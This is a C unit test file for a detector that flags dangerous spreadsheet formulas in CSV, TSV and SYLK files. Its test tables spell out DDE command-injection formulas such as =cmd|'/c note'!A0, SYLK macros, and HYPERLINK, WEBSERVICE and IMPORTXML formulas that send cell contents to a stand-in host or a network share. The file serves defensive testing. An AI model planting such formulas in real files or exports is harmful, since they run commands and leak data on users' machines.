/* SPDX-License-Identifier: Apache-2.0 */
/* Tests of cells.c: formulas that start programs or carry cells away, and tables that compute. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/buf.h"
#include "base/text.h"
#include "observe/part/harness.h"

static const struct {
    const char *name, *file, *text;
    enum fact_id id;
    const char *want; /* NULL: no such fact */
} cases[] = {
    { "dde", "a.csv", "1,2\n=cmd|'/c note'!A0\n", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "behind plus", "a.csv", "+cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "behind minus and a sum", "a.csv", "x,-2+3+cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "behind a function", "a.csv", "@SUM(1+9)*cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "in a quoted cell", "a.csv", "a,\"=cmd|'/c note \"\"x\"\"'!A0\",b", FACT_SHEET_FORMULA_DDE, "cmd|/c note \"\"x\"\"" },
    { "with a tab before it", "a.tsv", "a\t=cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "with semicolons", "a.csv", "a;=cmd|'/c note'!A0;b", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "with blanks", "a.csv", "= cmd | '/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "climbing out", "a.csv", "=MSEXCEL|'\\..\\..\\note.exe'!''", FACT_SHEET_FORMULA_DDE, "MSEXCEL|\\..\\..\\note.exe" },
    { "as a function", "a.csv", "=DDE(\"cmd\";\"/c note\";\"!A0\")", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "as a function in a quoted cell", "a.csv", "\"=DDE(\"\"cmd\"\",\"\"/c note\"\",1)\"", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "under the name of a workbook", "a.xls", "=cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "in sylk", "a.slk", "ID;P\nC;X1;Y1;K0;Ecmd|'/c note'!A0\nE\n", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "sylk under another name", "a.csv", "ID;P\nC;X1;Y1;K0;Ecmd|'/c note'!A0\nE\n", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "the first cell is harmless", "a.csv", "=A1+B1,=cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, "cmd|/c note" },
    { "macro in sylk", "a.slk", "ID;P\nO;E\nC;X1;Y1;K0;EEXEC(\"note\")\n", FACT_SHEET_FORMULA_MACRO, "EXEC(\"note\")" },
    { "cells in a link", "a.csv", "=HYPERLINK(\"http://a.example/?x=\"&A1&B2,\"see\")", FACT_SHEET_FORMULA_SENDS, "http://a.example/?x=" },
    { "cells in a link in a quoted cell", "a.csv", "\"=HYPERLINK(\"\"http://a.example/?x=\"\"&A1&\"\"&y=\"\"&$B$2,\"\"see\"\")\"", FACT_SHEET_FORMULA_SENDS,
      "http://a.example/?x=" },
    { "fetches", "a.csv", "=WEBSERVICE(\"http://a.example/?x=\"&A1)", FACT_SHEET_FORMULA_FETCHES, "http://a.example/?x=" },
    { "link to a share", "a.csv", "\"=HYPERLINK(\"\"\\\\192.0.2.80\\s\\a\"\",\"\"see\"\")\"", FACT_REMOTE_KIND, "address" },
    { "book on a share", "a.csv", "a,='\\\\192.0.2.80\\s\\[a.xlsx]S'!A1", FACT_REMOTE_PATH, "\\\\192.0.2.80\\s\\" },
    { "picture by scheme", "a.csv", "=IMAGE(\"file://a.example@80/b.png\")", FACT_REMOTE_KIND, "webdav" },
    { "share in sylk", "a.slk", "ID;P\nC;X1;Y1;K0;EHYPERLINK(\"\\\\192.0.2.80\\s\")\n", FACT_REMOTE_SOURCE, "sheet.formula" },
    { "share in a text", "a.csv", "see \\\\192.0.2.80\\s\\a", FACT_REMOTE_KIND, NULL },
    { "drive", "a.csv", "=HYPERLINK(\"C:\\docs\\a.txt\")", FACT_REMOTE_KIND, NULL },
    { "a link", "a.csv", "=HYPERLINK(\"http://a.example/\",\"A1\")", FACT_SHEET_FORMULA_SENDS, NULL },
    { "a link inside the book", "a.csv", "=HYPERLINK(\"#Sheet\"&A1,\"x\")", FACT_SHEET_FORMULA_SENDS, NULL },
    { "sums", "a.csv", "=SUM(A1:A9),=A1*B1\n-5,+7,@home", FACT_SHEET_FORMULA_DDE, NULL },
    { "bars as separators", "a.csv", "-5|abc|def|'x'\n", FACT_SHEET_FORMULA_DDE, NULL },
    { "said, not computed", "a.csv", "the text cmd|'/c note'!A0 is dangerous", FACT_SHEET_FORMULA_DDE, NULL },
    { "not a table", "a.txt", "=cmd|'/c note'!A0", FACT_SHEET_FORMULA_DDE, NULL },
    { "a macro word outside sylk", "a.csv", "=CALL(A1)", FACT_SHEET_FORMULA_MACRO, NULL },
    { "a table in sylk", "a.slk", "ID;P\nC;X1;Y1;K\"=cmd|'/c note'!A0\"\nC;X2;K3;ESUM(R1C1:R9C1)\n", FACT_SHEET_FORMULA_DDE, NULL },
    { "bar at the end", "a.csv", "=cmd|", FACT_SHEET_FORMULA_DDE, NULL },
    { "quote not closed", "a.csv", "=cmd|'/c note", FACT_SHEET_FORMULA_DDE, NULL },
    { "nothing before the bar", "a.csv", "=|'x'!A0", FACT_SHEET_FORMULA_DDE, NULL },
};

static void each_case(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct tally *t = tally_observed(&(struct tally_options){ .name = cases[i].file }, slice_of(cases[i].text));
        tally_check(t);
        if (cases[i].want ? !tally_has(t, cases[i].id, cases[i].want) : tally_facts(t, cases[i].id) != 0)
            fail_msg("%s: \"%.*s\"", cases[i].name, SLICE_FMT(tally_text(t, cases[i].id, 0)));
        tally_drop(&t);
    }
}

static void cells_that_a_link_carries(void **state)
{
    static const struct {
        const char *text;
        int64_t want;
    } links[] = {
        { "=HYPERLINK(\"http://a.example/?x=\"&A1,\"see\")", 1 },
        { "=HYPERLINK(\"http://a.example/?x=\"&A1&B2&$C$3,A4)", 3 },
        { "\"=HYPERLINK(\"\"http://a.example/?x=\"\"&A1&\"\"&y=\"\"&B2,\"\"see\"\")\"", 2 },
        { "=HYPERLINK(\"http://a.example/?x=\"&R[1]C&Z9)", 2 },
        { "=IMPORTXML(CONCAT(\"http://a.example/?x=\"&A1),\"//a\")", 1 },
        { "=IMPORTXML(\"http://a.example/?x=A1\",\"//a\")", -1 },
    };
    (void)state;
    for (size_t i = 0; i < sizeof links / sizeof links[0]; i++) {
        struct tally *t = tally_observed(&(struct tally_options){ .name = "a.csv" }, slice_of(links[i].text));
        const struct fact *f = tally_fact(t, FACT_SHEET_FORMULA_JOINED);
        if ((f ? f->number : -1) != links[i].want)
            fail_msg("%s: %d", links[i].text, f ? (int)f->number : -1);
        tally_drop(&t);
    }
}

/* Large and repeated: linear. */
static void floods(void **state)
{
    static const char *const pieces[] = { "=", "=,", "=a|", "=a|'", "=a(", "=DDE(\"", "=HYPERLINK(\"http:", "=cmd|'x'!a,", "a|'!", "\"", "-\n" };
    (void)state;
    for (size_t i = 0; i < sizeof pieces / sizeof pieces[0]; i++) {
        struct buf b = buf_new(8 << 20);
        while (b.len < 1 << 20)
            buf_text(&b, pieces[i]);
        struct tally *t = tally_observed(&(struct tally_options){ .name = "a.csv" }, buf_slice(&b));
        tally_check(t);
        assert_true(tally_facts(t, FACT_SHEET_FORMULA_DDE) <= 64);
        assert_true(tally_facts(t, FACT_SHEET_FORMULA_DDE) < 64 || tally_unread(t, UNREAD_LIMIT));
        tally_drop(&t);
        buf_drop(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_case),
        cmocka_unit_test(cells_that_a_link_carries),
        cmocka_unit_test(floods),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
